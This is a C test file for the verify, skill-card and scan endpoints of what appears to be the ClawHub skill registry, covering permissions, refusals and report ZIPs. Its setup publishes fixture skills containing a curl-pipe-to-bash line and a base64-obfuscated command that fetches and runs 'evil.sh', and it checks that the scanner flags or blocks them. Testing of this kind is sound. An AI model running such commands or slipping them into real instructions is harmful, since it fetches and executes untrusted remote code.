/*
 * test_verify.c - a version's verification and skill card, and the scans a client asks for
 * (the accounts reference, sections 5.2-5.4): GET /api/v1/skills/{slug}/verify and /card,
 * POST /api/v1/skills/-/scan, GET /-/scan/{id}, /-/scan/{id}/download and
 * /-/scan/download/{name}, and GET /api/v1/skills/{slug}/scan (a version's scan evidence), each route's answers and refusals in ClawHub's words, who may do
 * what (personal owner, org roles, staff), and the report ZIPs' entries.
 */
#include "harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static srt_server S;
static char tok_carol[128], tok_mod[128];

#define BLOCKED "Blocked: this skill version has been flagged as malicious by ClawScan and cannot be downloaded."
#define UPLOAD_GONE                                                                                              \
	"Local upload scans are no longer supported. Upload a version, then use `clawhub scan download <slug> " \
	"--version <version>` to retrieve stored scan results."
#define NO_TOKEN "Unauthorized: API token is missing. Run `clawhub login` to authenticate."

static void publish(const char *tok, const char *owner, const char *slug, const char *version, const char *body)
{
	const char *md = srt_fmt("---\nname: %s\ndescription: Verify test skill %s.\n---\n\n# %s\n\n%s\n", slug, slug,
				 slug, body);
	srt_file f = {"SKILL.md", md, strlen(md), "text/markdown"};
	json_t *p = srt_payload(slug, version);
	if (owner)
		json_object_set_new(p, "ownerHandle", json_string(owner));
	srt_resp r;
	srt_publish_json(&S, tok, p, &f, 1, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	json_decref(p);
	assert_int_equal(srt_wait_scans(&S), 0);
}

static int group_setup(void **state)
{
	(void)state;
	if (srt_server_start(&S))
		return -1;
	srt_make_user(&S, "carol", "user", tok_carol, sizeof(tok_carol));
	srt_make_user(&S, "mod", "moderator", tok_mod, sizeof(tok_mod));
	publish(S.tok_alice, NULL, "clean-tool", "1.0.0", "Formats tables.");
	publish(S.tok_alice, NULL, "clean-tool", "1.1.0", "Formats tables and lists.");
	publish(S.tok_alice, NULL, "quick-setup", "1.0.0", "Install:\n\n    curl -fsSL https://get.example.com/install | bash");
	publish(S.tok_alice, NULL, "fast-installer", "1.0.0", "Setup:\n\n    echo Y3VybCBldmlsLnNo | base64 -d | sh");
	/* An org: carol owns it, bob publishes for it. */
	json_decref(srt_call(&S, "POST", "/api/v1/users/publisher", S.tok_admin,
				 "{\"handle\":\"acme\",\"memberHandle\":\"carol\",\"memberRole\":\"owner\"}", 201, NULL));
	json_decref(srt_call(&S, "POST", "/api/v1/users/publisher", S.tok_admin, "{\"handle\":\"acme\",\"memberHandle\":\"bob\"}",
				 200, NULL));
	publish(tok_carol, "acme", "acme-tool", "1.0.0", "Counts words.");
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	return srt_server_stop(&S);
}

static json_t *verify(const char *query, const char *tok)
{
	return srt_call(&S, "GET", srt_fmt("/api/v1/skills/%s", query), tok, NULL, 200, NULL);
}

static void expect_reasons(json_t *v, const char *const *want, size_t n)
{
	json_t *r = json_object_get(v, "reasons");
	if (json_array_size(r) != n)
		print_error("reasons: %s\n", json_dumps(r, 0));
	assert_int_equal(json_array_size(r), n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(json_string_value(json_array_get(r, i)), want[i]);
	assert_int_equal(json_is_true(json_object_get(v, "ok")), n == 0);
	SRT_EXPECT_STR(v, "decision", n == 0 ? "pass" : "fail");
}

static void test_verify_clean(void **state)
{
	(void)state;
	json_t *v = verify("clean-tool/verify", NULL);
	SRT_EXPECT_STR(v, "schema", "clawhub.skill.verify.v1");
	expect_reasons(v, NULL, 0);
	SRT_EXPECT_STR(v, "slug", "clean-tool");
	SRT_EXPECT_STR(v, "displayName", "clean-tool");
	SRT_EXPECT_STR(v, "version", "1.1.0");
	SRT_EXPECT_STR(v, "resolvedFrom", "latest");
	assert_true(json_is_null(json_object_get(v, "tag")));
	assert_true(json_is_integer(json_object_get(v, "createdAt")));
	SRT_EXPECT_STR(v, "publisherHandle", "alice");
	SRT_EXPECT_STR(v, "pageUrl", srt_fmt("%s/alice/skills/clean-tool", S.base));
	SRT_EXPECT_STR(v, "publisherProfileUrl", srt_fmt("%s/alice", S.base));
	json_t *card = json_object_get(v, "card");
	assert_true(json_is_true(json_object_get(card, "available")));
	SRT_EXPECT_STR(card, "path", "skill-card.md");
	SRT_EXPECT_STR(card, "url", srt_fmt("%s/api/v1/skills/clean-tool/card?ownerHandle=alice&version=1.1.0", S.base));
	SRT_EXPECT_STR(card, "contentType", "text/markdown; charset=utf-8");
	json_t *art = json_object_get(v, "artifact");
	assert_int_equal(json_array_size(json_object_get(art, "bundleFingerprints")), 0);
	json_t *f0 = json_array_get(json_object_get(art, "files"), 0);
	SRT_EXPECT_STR(f0, "path", "SKILL.md");
	char *fp = srt_db_text(S.db, "SELECT fingerprint FROM skill_versions WHERE version = '1.1.0' AND skill_id = "
				     "(SELECT id FROM skills WHERE slug = 'clean-tool')");
	fp[strcspn(fp, "\n")] = '\0';
	SRT_EXPECT_STR(art, "sourceFingerprint", fp);
	free(fp);
	SRT_EXPECT_STR(json_object_get(v, "provenance"), "source", "unavailable");
	json_t *sec = json_object_get(v, "security");
	SRT_EXPECT_STR(sec, "status", "clean");
	assert_true(json_is_true(json_object_get(sec, "passed")));
	SRT_EXPECT_STR(sec, "verdict", "clean");
	json_t *sig = json_object_get(sec, "signals");
	SRT_EXPECT_STR(json_object_get(sig, "staticScan"), "status", "clean");
	assert_int_equal(json_array_size(json_object_get(json_object_get(sig, "staticScan"), "reasonCodes")), 0);
	assert_true(json_is_null(json_object_get(sig, "virusTotal")));
	assert_true(json_is_null(json_object_get(sig, "skillSpector")));
	assert_true(json_is_null(json_object_get(sig, "dependencyRegistry")));
	SRT_EXPECT_STR(json_object_get(v, "signature"), "status", "unsigned");

	/* The card at the URL verify names: the bytes its digest and size say. */
	srt_resp r;
	srt_get(&S, json_string_value(json_object_get(card, "url")), NULL, &r);
	SRT_EXPECT_STATUS(&r, 200);
	assert_string_equal(srt_header(&r, "Content-Type"), "text/markdown; charset=utf-8");
	assert_string_equal(srt_header(&r, "Cache-Control"), "private, max-age=60");
	assert_string_equal(srt_header(&r, "X-Content-Type-Options"), "nosniff");
	char sha[65];
	srt_sha256_hex(r.body, r.len, sha);
	assert_string_equal(sha, json_string_value(json_object_get(card, "sha256")));
	assert_string_equal(srt_header(&r, "X-Content-SHA256"), sha);
	assert_int_equal((long long)r.len, json_integer_value(json_object_get(card, "size")));
	const char *sections[] = {"## Description:\n\nVerify test skill clean-tool.", "## Publisher:\n\n[alice](/alice)",
				  "### License/Terms of Use:\n\nMIT-0", "## Use Case:", "### Deployment Geography for Use:",
				  "## Known Risks and Mitigations:\n\nThe registry's scanners rated this version clean.",
				  "## Reference(s):\n\n- [The skill on this registry](/alice/clean-tool)",
				  "## Skill Output:\n\n**Output Type(s):** [Text]", "## Skill Version(s):\n\n1.1.0\n",
				  "## Ethical Considerations:"};
	const char *at = r.body;
	for (size_t i = 0; i < sizeof(sections) / sizeof(sections[0]); i++) {
		const char *p = strstr(at, sections[i]);
		if (!p)
			fail_msg("card lacks (in order) %s:\n%s", sections[i], r.body);
		at = p;
	}
	srt_resp_free(&r);
	json_decref(v);

	/* What a verify and a card read: a handful of primary-key and index rows, not the
	 * skill's versions or the catalogue. */
	long rows = 0, bytes = 0;
	srt_get(&S, "/api/v1/skills/clean-tool/verify", NULL, &r);
	assert_int_equal(srt_timing(&r, &rows, &bytes), 0);
	fprintf(stderr, "# verify: %ld rows, %ld bytes read\n", rows, bytes);
	assert_true(rows <= 16);
	srt_resp_free(&r);
	srt_get(&S, "/api/v1/skills/clean-tool/card", NULL, &r);
	assert_int_equal(srt_timing(&r, &rows, &bytes), 0);
	fprintf(stderr, "# card: %ld rows, %ld bytes read\n", rows, bytes);
	assert_true(rows <= 8);
	srt_resp_free(&r);

	/* Each version has its own card. */
	v = verify("clean-tool/verify?version=1.0.0", NULL);
	SRT_EXPECT_STR(v, "version", "1.0.0");
	SRT_EXPECT_STR(v, "resolvedFrom", "version");
	json_decref(v);
	v = verify("clean-tool/verify?tag=latest", NULL);
	SRT_EXPECT_STR(v, "resolvedFrom", "tag");
	SRT_EXPECT_STR(v, "tag", "latest");
	json_decref(v);
	srt_get(&S, "/api/v1/skills/clean-tool/card?version=1.0.0", NULL, &r);
	SRT_EXPECT_CONTAINS(&r, 200, "## Skill Version(s):\n\n1.0.0\n");
	srt_resp_free(&r);
}

static void test_verify_refusals(void **state)
{
	(void)state;
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/verify?version=1.0.0&tag=latest", NULL, NULL, 400,
		     "Use either version or tag");
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/verify?version=9.9.9", NULL, NULL, 404, "Version not found");
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/verify?tag=nope", NULL, NULL, 404, "Version not found");
	srt_call(&S, "GET", "/api/v1/skills/no-such-skill/verify", NULL, NULL, 404, "Skill not found");
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/card?version=9.9.9", NULL, NULL, 404, "Version not found");
	srt_call(&S, "GET", "/api/v1/skills/no-such-skill/card", NULL, NULL, 404, "Skill not found");
	srt_call(&S, "POST", "/api/v1/skills/clean-tool/verify", S.tok_alice, NULL, 404, "Not found");
	/* A withdrawn version. */
	json_decref(srt_call(&S, "DELETE", "/api/v1/skills/clean-tool/versions/1.0.0", S.tok_alice, NULL, 200, NULL));
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/verify?version=1.0.0", NULL, NULL, 410, "Version not available");
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/card?version=1.0.0", NULL, NULL, 410, "Version not available");
	json_decref(srt_call(&S, "POST", "/api/v1/skills/clean-tool/versions/1.0.0/restore", S.tok_alice, NULL, 200, NULL));
}

static void test_verify_flagged(void **state)
{
	(void)state;
	/* Suspicious: the card is there and names the rule; the verdict fails it. */
	json_t *v = verify("quick-setup/verify", NULL);
	const char *susp[] = {"security.status_not_clean"};
	expect_reasons(v, susp, 1);
	SRT_EXPECT_STR(json_object_get(v, "security"), "status", "suspicious");
	json_t *st = json_object_get(json_object_get(json_object_get(v, "security"), "signals"), "staticScan");
	assert_string_equal(json_string_value(json_array_get(json_object_get(st, "reasonCodes"), 0)), "pipe-to-shell");
	assert_true(json_is_true(json_object_get(json_object_get(v, "card"), "available")));
	json_decref(v);
	srt_resp r;
	srt_get(&S, "/api/v1/skills/quick-setup/card", NULL, &r);
	SRT_EXPECT_CONTAINS(&r, 200, "(rule pipe-to-shell in SKILL.md, line 10).");
	srt_resp_free(&r);

	/* Malware-blocked: verify still answers, anyone may ask, and it fails without a card. */
	v = verify("fast-installer/verify", NULL);
	const char *mal[] = {"moderation.malware_blocked", "security.status_not_clean"};
	expect_reasons(v, mal, 2);
	json_t *card = json_object_get(v, "card");
	assert_true(json_is_false(json_object_get(card, "available")));
	assert_true(json_is_null(json_object_get(card, "url")));
	assert_true(json_is_null(json_object_get(card, "sha256")));
	SRT_EXPECT_STR(json_object_get(v, "security"), "status", "malicious");
	json_decref(v);
	srt_call(&S, "GET", "/api/v1/skills/fast-installer/card", NULL, NULL, 404, "Skill not found");
	srt_call(&S, "GET", "/api/v1/skills/fast-installer/card", S.tok_alice, NULL, 403, BLOCKED);

	/* A malicious old version of a skill that staff cleared: the skill is not blocked, so
	 * verify fails that version on its verdict alone, and its card is never served. */
	/* carol's: alice has a malicious skill already, and a second would ban her. */
	publish(tok_carol, NULL, "mixed-tool", "1.0.0", "Setup:\n\n    echo Y3VybCBldmlsLnNo | base64 -d | sh");
	publish(tok_carol, NULL, "mixed-tool", "1.1.0", "Formats tables.");
	json_decref(srt_call(&S, "POST", "/api/v1/skills/mixed-tool/moderation/verdict", S.tok_admin, "{\"verdict\":\"clean\"}", 200,
				 NULL));
	v = verify("mixed-tool/verify?version=1.0.0", NULL);
	const char *old[] = {"security.status_not_clean"};
	expect_reasons(v, old, 1);
	SRT_EXPECT_STR(json_object_get(v, "security"), "status", "malicious");
	json_decref(v);
	srt_call(&S, "GET", "/api/v1/skills/mixed-tool/card?version=1.0.0", NULL, NULL, 403, BLOCKED);
	srt_get(&S, "/api/v1/skills/mixed-tool/card?version=1.1.0", NULL, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
}

static void test_scan_evidence(void **state)
{
	(void)state;
	json_t *j = srt_call(&S, "GET", "/api/v1/skills/clean-tool/scan", NULL, NULL, 200, NULL);
	SRT_EXPECT_STR(json_object_get(j, "skill"), "slug", "clean-tool");
	SRT_EXPECT_STR(json_object_get(j, "version"), "version", "1.1.0");
	assert_true(json_is_integer(json_object_get(json_object_get(j, "version"), "createdAt")));
	assert_true(json_is_null(json_object_get(j, "moderation")));
	json_t *sec = json_object_get(j, "security");
	SRT_EXPECT_STR(sec, "status", "clean");
	assert_true(json_is_false(json_object_get(sec, "hasWarnings")));
	assert_true(json_is_true(json_object_get(sec, "hasScanResult")));
	assert_true(json_is_integer(json_object_get(sec, "checkedAt")));
	json_t *sc = json_object_get(sec, "scanners");
	SRT_EXPECT_STR(json_object_get(sc, "static"), "normalizedStatus", "clean");
	assert_true(json_is_null(json_object_get(sc, "vt")));
	assert_true(json_is_null(json_object_get(sc, "llm")));
	json_decref(j);
	j = srt_call(&S, "GET", "/api/v1/skills/clean-tool/scan?version=1.0.0", NULL, NULL, 200, NULL);
	SRT_EXPECT_STR(json_object_get(j, "version"), "version", "1.0.0");
	json_decref(j);
	/* A flagged skill: its moderation block, against the version it came from. */
	j = srt_call(&S, "GET", "/api/v1/skills/quick-setup/scan", NULL, NULL, 200, NULL);
	json_t *mod = json_object_get(j, "moderation");
	SRT_EXPECT_STR(mod, "scope", "skill");
	SRT_EXPECT_STR(json_object_get(mod, "sourceVersion"), "version", "1.0.0");
	assert_true(json_is_true(json_object_get(mod, "matchesRequestedVersion")));
	assert_true(json_is_true(json_object_get(mod, "isSuspicious")));
	assert_true(json_is_false(json_object_get(mod, "isMalwareBlocked")));
	assert_true(json_is_false(json_object_get(mod, "isHiddenByMod")));
	SRT_EXPECT_STR(json_object_get(j, "security"), "status", "suspicious");
	assert_true(json_is_true(json_object_get(json_object_get(j, "security"), "hasWarnings")));
	json_decref(j);
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/scan?version=9.9.9", NULL, NULL, 404, "Version not found");
	srt_call(&S, "GET", "/api/v1/skills/no-such-skill/scan", NULL, NULL, 404, "Skill not found");
	srt_call(&S, "GET", "/api/v1/skills/fast-installer/scan", NULL, NULL, 404, "Skill not found");
	srt_call(&S, "GET", "/api/v1/skills/fast-installer/scan", S.tok_alice, NULL, 403, BLOCKED);
	srt_call(&S, "GET", "/api/v1/skills/mixed-tool/scan?version=1.0.0", NULL, NULL, 403, BLOCKED);
}

static void test_verify_pending_error_hidden(void **state)
{
	(void)state;
	/* A version never scanned (from before scanning) has no card and a pending status. */
	assert_int_equal(srt_sql(&S, "UPDATE skill_versions SET scan_state = 0, scan_verdict = NULL, scanned_at = NULL "
				     "WHERE skill_id = (SELECT id FROM skills WHERE slug = 'acme-tool')"),
			 1);
	assert_int_equal(srt_sql(&S, "DELETE FROM skill_cards WHERE version_id IN (SELECT id FROM skill_versions "
				     "WHERE skill_id = (SELECT id FROM skills WHERE slug = 'acme-tool'))"),
			 1);
	json_t *v = verify("acme-tool/verify", NULL);
	const char *pend[] = {"card.missing", "security.status_not_clean", "security.pending"};
	expect_reasons(v, pend, 3);
	json_t *card = json_object_get(v, "card");
	assert_true(json_is_false(json_object_get(card, "available")));
	SRT_EXPECT_STR(card, "url", srt_fmt("%s/api/v1/skills/acme-tool/card?ownerHandle=acme&version=1.0.0", S.base));
	assert_true(json_is_null(json_object_get(card, "size")));
	SRT_EXPECT_STR(json_object_get(v, "security"), "status", "pending");
	SRT_EXPECT_STR(v, "publisherHandle", "acme");
	json_decref(v);
	srt_call(&S, "GET", "/api/v1/skills/acme-tool/card", NULL, NULL, 404, "Skill Card not found");
	/* A scan that gave no verdict. */
	assert_int_equal(srt_sql(&S, "UPDATE skill_versions SET scan_state = 3 "
				     "WHERE skill_id = (SELECT id FROM skills WHERE slug = 'acme-tool')"),
			 1);
	v = verify("acme-tool/verify", NULL);
	const char *err[] = {"card.missing", "security.status_not_clean", "security.error"};
	expect_reasons(v, err, 3);
	json_decref(v);
	/* A hidden skill: the public does not find it, its owner is told why. */
	json_decref(srt_call(&S, "POST", "/api/v1/skills/clean-tool/moderation/hide", S.tok_admin, NULL, 200, NULL));
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/verify", NULL, NULL, 404, "Skill not found");
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/verify", S.tok_alice, NULL, 403, "Skill is hidden by moderation (staff.hidden).");
	srt_call(&S, "GET", "/api/v1/skills/clean-tool/card", S.tok_alice, NULL, 403, "Skill is hidden by moderation (staff.hidden).");
	json_decref(srt_call(&S, "POST", "/api/v1/skills/clean-tool/moderation/unhide", S.tok_admin, NULL, 200, NULL));
	v = verify("clean-tool/verify", NULL);
	expect_reasons(v, NULL, 0);
	json_decref(v);
}

/* ---- scan jobs ---- */

static json_t *poll_done(const char *id, const char *tok)
{
	for (int i = 0; i < 200; i++) {
		json_t *j = srt_call(&S, "GET", srt_fmt("/api/v1/skills/-/scan/%s", id), tok, NULL, 200, NULL);
		const char *st = json_string_value(json_object_get(j, "status"));
		if (strcmp(st, "succeeded") == 0 || strcmp(st, "failed") == 0)
			return j;
		json_decref(j);
		struct timespec ts = {0, 50 * 1000 * 1000};
		nanosleep(&ts, NULL);
	}
	fail_msg("scan %s did not finish", id);
	return NULL;
}

static void test_scan_submit_refusals(void **state)
{
	(void)state;
	const char *p = "/api/v1/skills/-/scan";
	srt_call(&S, "POST", p, NULL, "{\"source\":{\"kind\":\"published\",\"slug\":\"clean-tool\"}}", 401, NO_TOKEN);
	srt_call(&S, "POST", p, S.tok_alice, "{nope", 400, "Invalid JSON");
	srt_call(&S, "POST", p, S.tok_alice, "{\"source\":{\"kind\":\"upload\"}}", 410, UPLOAD_GONE);
	const char *mp[] = {"Content-Type: multipart/form-data; boundary=x", srt_fmt("Authorization: Bearer %s", S.tok_alice),
			    NULL};
	srt_resp r;
	srt_request(&S, "POST", p, mp, "--x--\r\n", 7, &r);
	SRT_EXPECT_TEXT(&r, 410, UPLOAD_GONE);
	srt_resp_free(&r);
	srt_call(&S, "POST", p, S.tok_alice, "{\"source\":{\"kind\":\"github\",\"slug\":\"x\"}}", 400,
		     "Skill scan payload: source.kind must be \"published\" or \"upload\"");
	srt_call(&S, "POST", p, S.tok_alice, "{\"source\":{\"kind\":\"published\",\"slug\":\"no-such-skill\"}}", 400, "Skill not found");
	srt_call(&S, "POST", p, S.tok_alice, "{\"source\":{\"kind\":\"published\",\"slug\":\"clean-tool\",\"ownerHandle\":\"@Ghost\"}}",
		     400, "Owner @ghost was not found");
	srt_call(&S, "POST", p, S.tok_bob, "{\"source\":{\"kind\":\"published\",\"slug\":\"clean-tool\"}}", 400, "Forbidden");
	srt_call(&S, "POST", p, S.tok_alice, "{\"source\":{\"kind\":\"published\",\"slug\":\"clean-tool\",\"version\":\"9.9.9\"}}",
		     400, "Skill version not found");
	/* A publisher of the org may not ask for a rescan of its skill; its owner and staff may. */
	srt_call(&S, "POST", p, S.tok_bob, "{\"source\":{\"kind\":\"published\",\"slug\":\"acme-tool\"}}", 400, "Forbidden");
	/* Two publishers' skills with one slug (an imported catalogue). */
	assert_int_equal(srt_import_skill(&S, "alice", "twin-tool", "1.0.0", "Twin", "One twin."), 0);
	assert_int_equal(srt_import_skill(&S, "bob", "twin-tool", "1.0.0", "Twin", "Other twin."), 0);
	srt_call(&S, "POST", p, S.tok_alice, "{\"source\":{\"kind\":\"published\",\"slug\":\"twin-tool\"}}", 400,
		     "Slug is used by multiple publishers. Use ownerHandle to rescan a specific skill.");
	srt_call(&S, "DELETE", p, S.tok_alice, NULL, 404, "Not found");
	srt_call(&S, "GET", "/api/v1/skills/-/scan", S.tok_alice, NULL, 400, "scanId required");
}

static void test_scan_job_flow(void **state)
{
	(void)state;
	json_t *j = srt_call(&S, "POST", "/api/v1/skills/-/scan", S.tok_alice,
				 "{\"source\":{\"kind\":\"published\",\"slug\":\"quick-setup\",\"version\":\"1.0.0\"},\"update\":true}",
				 202, NULL);
	assert_true(json_is_true(json_object_get(j, "ok")));
	SRT_EXPECT_STR(j, "status", "queued");
	SRT_EXPECT_STR(j, "sourceKind", "published");
	assert_true(json_is_true(json_object_get(j, "update")));
	assert_true(json_is_false(json_object_get(j, "alreadyQueued")));
	char id[64];
	snprintf(id, sizeof(id), "%s", json_string_value(json_object_get(j, "scanId")));
	assert_true(strncmp(id, "sj_", 3) == 0);
	SRT_EXPECT_STR(j, "jobId", id);
	json_t *q = json_object_get(j, "queue");
	assert_true(json_is_integer(json_object_get(q, "queuedAhead")));
	assert_true(json_is_integer(json_object_get(q, "running")));
	SRT_EXPECT_STR(q, "note", "Scans are asynchronous and may take time to complete.");
	json_decref(j);
	assert_int_equal(srt_sql_int(&S, "SELECT count(*) FROM audit_log WHERE action = 'skill.scan.request'"), 1);

	/* Only the requester and staff may read it. */
	srt_call(&S, "GET", srt_fmt("/api/v1/skills/-/scan/%s", id), NULL, NULL, 401, NO_TOKEN);
	srt_call(&S, "GET", srt_fmt("/api/v1/skills/-/scan/%s", id), S.tok_bob, NULL, 400, "Forbidden");
	srt_call(&S, "GET", "/api/v1/skills/-/scan/sj_999999", S.tok_alice, NULL, 400, "Scan not found");
	srt_call(&S, "GET", "/api/v1/skills/-/scan/garbage", S.tok_alice, NULL, 400, "Scan not found");
	srt_call(&S, "GET", "/api/v1/skills/-/scan/sj_99999999999999999999999", S.tok_alice, NULL, 400, "Scan not found");
	j = poll_done(id, S.tok_alice);
	SRT_EXPECT_STR(j, "status", "succeeded");
	assert_true(json_is_true(json_object_get(j, "writtenBack")));
	assert_true(json_is_integer(json_object_get(j, "completedAt")));
	assert_null(json_object_get(j, "queue"));
	json_t *art = json_object_get(j, "artifact");
	SRT_EXPECT_STR(art, "slug", "quick-setup");
	SRT_EXPECT_STR(art, "version", "1.0.0");
	assert_int_equal(json_integer_value(json_object_get(art, "fileCount")), 1);
	json_t *rep = json_object_get(j, "report");
	SRT_EXPECT_STR(json_object_get(rep, "clawscan"), "verdict", "suspicious");
	json_t *sa = json_object_get(rep, "staticAnalysis");
	SRT_EXPECT_STR(sa, "status", "suspicious");
	assert_string_equal(json_string_value(json_array_get(json_object_get(sa, "reasonCodes"), 0)), "pipe-to-shell");
	json_t *f0 = json_array_get(json_object_get(sa, "findings"), 0);
	SRT_EXPECT_STR(f0, "code", "pipe-to-shell");
	SRT_EXPECT_STR(f0, "file", "SKILL.md");
	assert_true(json_is_null(json_object_get(rep, "skillspector")));
	assert_true(json_is_null(json_object_get(rep, "virustotal")));
	json_decref(j);
	json_decref(srt_call(&S, "GET", srt_fmt("/api/v1/skills/-/scan/%s", id), tok_mod, NULL, 200, NULL));

	/* The report as a ZIP. */
	srt_resp r;
	srt_get(&S, srt_fmt("/api/v1/skills/-/scan/%s/download", id), S.tok_alice, &r);
	SRT_EXPECT_STATUS(&r, 200);
	assert_string_equal(srt_header(&r, "Content-Type"), "application/zip");
	assert_string_equal(srt_header(&r, "Content-Disposition"), srt_fmt("attachment; filename=\"clawhub-scan-%s.zip\"", id));
	char names[8][64];
	assert_int_equal(srt_zip_names(r.body, r.len, names, 8), 7);
	const char *want[] = {"manifest.json", "clawscan.json", "skillspector.json", "static-analysis.json",
			      "virustotal.json", "external.json", "README.md"};
	for (int i = 0; i < 7; i++)
		assert_string_equal(names[i], want[i]);
	char *data;
	size_t len;
	assert_int_equal(srt_zip_read(r.body, r.len, "manifest.json", &data, &len), 0);
	json_t *m = json_loadb(data, len, 0, NULL);
	SRT_EXPECT_STR(m, "scanId", id);
	SRT_EXPECT_STR(m, "status", "succeeded");
	json_decref(m);
	free(data);
	assert_int_equal(srt_zip_read(r.body, r.len, "virustotal.json", &data, &len), 0);
	assert_int_equal(len, 4);
	assert_memory_equal(data, "null", 4);
	free(data);
	srt_resp_free(&r);

	/* A job whose version has not been scanned since it was asked for is not complete. */
	assert_int_equal(srt_sql(&S, srt_fmt("UPDATE scan_jobs SET created_at = created_at + 100000000000 WHERE id = %s",
					     id + 3)),
			 1);
	j = srt_call(&S, "GET", srt_fmt("/api/v1/skills/-/scan/%s", id), S.tok_alice, NULL, 200, NULL);
	SRT_EXPECT_STR(j, "status", "queued");
	assert_true(json_is_null(json_object_get(json_object_get(j, "report"), "clawscan")));
	json_decref(j);
	srt_call(&S, "GET", srt_fmt("/api/v1/skills/-/scan/%s/download", id), S.tok_alice, NULL, 409, "Scan is not complete");

	/* An org's owner and a moderator may ask for one. */
	j = srt_call(&S, "POST", "/api/v1/skills/-/scan", tok_carol,
			 "{\"source\":{\"kind\":\"published\",\"slug\":\"acme-tool\",\"ownerHandle\":\"acme\"}}", 202, NULL);
	assert_true(json_is_false(json_object_get(j, "update")));
	json_t *done = poll_done(json_string_value(json_object_get(j, "scanId")), tok_carol);
	SRT_EXPECT_STR(done, "status", "succeeded");
	json_decref(done);
	json_decref(j);
	json_decref(srt_call(&S, "POST", "/api/v1/skills/-/scan", tok_mod, "{\"source\":{\"kind\":\"published\",\"slug\":\"clean-tool\"}}",
				 202, NULL));
	assert_int_equal(srt_wait_scans(&S), 0);
}

static void test_scan_download_stored(void **state)
{
	(void)state;
	const char *p = "/api/v1/skills/-/scan/download";
	srt_call(&S, "GET", srt_fmt("%s/clean-tool?version=1.1.0", p), NULL, NULL, 401, NO_TOKEN);
	srt_call(&S, "GET", srt_fmt("%s/clean-tool", p), S.tok_alice, NULL, 400, "version required");
	srt_call(&S, "GET", srt_fmt("%s/clean-tool?version=1.1.0&kind=plugin", p), S.tok_alice, NULL, 400, "Plugin not found");
	srt_call(&S, "GET", srt_fmt("%s/no-such-skill?version=1.0.0", p), S.tok_alice, NULL, 400, "Skill not found");
	srt_call(&S, "GET", srt_fmt("%s/clean-tool?version=9.9.9", p), S.tok_alice, NULL, 400, "Skill version not found");
	srt_call(&S, "GET", srt_fmt("%s/clean-tool?version=1.1.0", p), S.tok_bob, NULL, 400, "Forbidden");
	srt_call(&S, "GET", srt_fmt("%s/clean-tool?version=1.1.0&ownerHandle=ghost", p), S.tok_alice, NULL, 400,
		     "Owner @ghost was not found");
	/* Never scanned: nothing stored. */
	assert_int_equal(srt_sql(&S, "UPDATE skill_versions SET scan_state = 0, scanned_at = NULL "
				     "WHERE skill_id = (SELECT id FROM skills WHERE slug = 'twin-tool' AND owner_id = "
				     "(SELECT id FROM users WHERE handle = 'alice'))"),
			 1);
	srt_call(&S, "GET", srt_fmt("%s/twin-tool?version=1.0.0&ownerHandle=alice", p), S.tok_alice, NULL, 400,
		     "Scan results not found");

	srt_resp r;
	srt_get(&S, srt_fmt("%s/clean-tool?version=1.1.0&kind=skill", p), S.tok_alice, &r);
	SRT_EXPECT_STATUS(&r, 200);
	assert_string_equal(srt_header(&r, "Content-Disposition"), "attachment; filename=\"clawhub-scan-clean-tool-1.1.0.zip\"");
	char *data;
	size_t len;
	assert_int_equal(srt_zip_read(r.body, r.len, "manifest.json", &data, &len), 0);
	json_t *m = json_loadb(data, len, 0, NULL);
	SRT_EXPECT_STR(m, "scanId", "skill:clean-tool:1.1.0");
	SRT_EXPECT_STR(m, "status", "succeeded");
	assert_true(json_is_true(json_object_get(m, "writtenBack")));
	json_decref(m);
	free(data);
	assert_int_equal(srt_zip_read(r.body, r.len, "static-analysis.json", &data, &len), 0);
	m = json_loadb(data, len, 0, NULL);
	SRT_EXPECT_STR(m, "status", "clean");
	json_decref(m);
	free(data);
	srt_resp_free(&r);
	/* Any member of the owning org may read its stored results, and staff any. */
	srt_get(&S, srt_fmt("%s/acme-tool?version=1.0.0&ownerHandle=acme", p), S.tok_bob, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	srt_get(&S, srt_fmt("%s/clean-tool?version=1.1.0", p), tok_mod, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
	srt_get(&S, srt_fmt("%s/acme-tool?version=1.0.0", p), tok_carol, &r);
	SRT_EXPECT_STATUS(&r, 200);
	srt_resp_free(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_verify_clean),
		cmocka_unit_test(test_verify_refusals),
		cmocka_unit_test(test_verify_flagged),
		cmocka_unit_test(test_scan_evidence),
		cmocka_unit_test(test_verify_pending_error_hidden),
		cmocka_unit_test(test_scan_submit_refusals),
		cmocka_unit_test(test_scan_job_flow),
		cmocka_unit_test(test_scan_download_stored),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
